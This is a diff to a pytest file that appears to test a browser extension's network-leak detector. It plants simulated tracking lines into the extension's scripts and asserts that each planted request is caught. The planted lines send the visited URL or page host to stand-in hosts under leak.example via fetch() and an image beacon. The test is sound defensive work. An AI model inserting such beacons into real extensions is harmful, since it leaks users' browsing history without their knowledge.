@@ -57,24 +57,33 @@ def test_no_visit_and_no_opening_of_the_popup_asks_anybody_anything(name, sample
 
 LEAKS = {
     # file: (what stands there, what a leak would add behind it)
-    "popup/popup.js": ("await open();", "fetch('https://api.earwitness.example/v1/vendors');"),
+    "popup/popup.js": ("await open();", "fetch('https://popup.leak.example/');"),
     "background.js": (
         "async function visited(tabId, url) {",
-        "fetch('https://leak.example/?' + encodeURIComponent(url));",
+        "fetch('https://worker.leak.example/?' + encodeURIComponent(url));",
     ),
-    "page/visit.js": ("tell();", "new Image().src = 'http://leak.example/?' + location.host;"),
+    "page/visit.js": (
+        "tell();",
+        "new Image().src = 'http://visit.leak.example/?' + location.host;",
+    ),
 }
 
 
-@pytest.mark.parametrize("file", LEAKS)
-def test_a_planted_leak_is_found(name, sample_bundle, tmp_path, file):
-    there, leak = (text.encode() for text in LEAKS[file])
+def leaking(there: str, leak: str):
+    """What plants a leak in a file."""
 
-    def change(code):
-        assert there in code
-        return code.replace(there, there + b" " + leak, 1)
+    def change(code: bytes) -> bytes:
+        assert there.encode() in code
+        return code.replace(there.encode(), f"{there} {leak}".encode(), 1)
 
-    assert recorded(name, sample_bundle, tmp_path / "x", 5, 1, {file: change})
+    return change
+
+
+def test_each_planted_leak_is_found(name, sample_bundle, tmp_path):
+    planted = {file: leaking(*where) for file, where in LEAKS.items()}
+    found = recorded(name, sample_bundle, tmp_path / "x", 5, 1, planted)
+    for host in ("popup", "worker", "visit"):
+        assert [url for url in found if f"//{host}.leak.example/" in url], host
 
 
 def test_the_bundle_is_fetched_when_its_hour_has_come(name, sample_bundle, tmp_path):
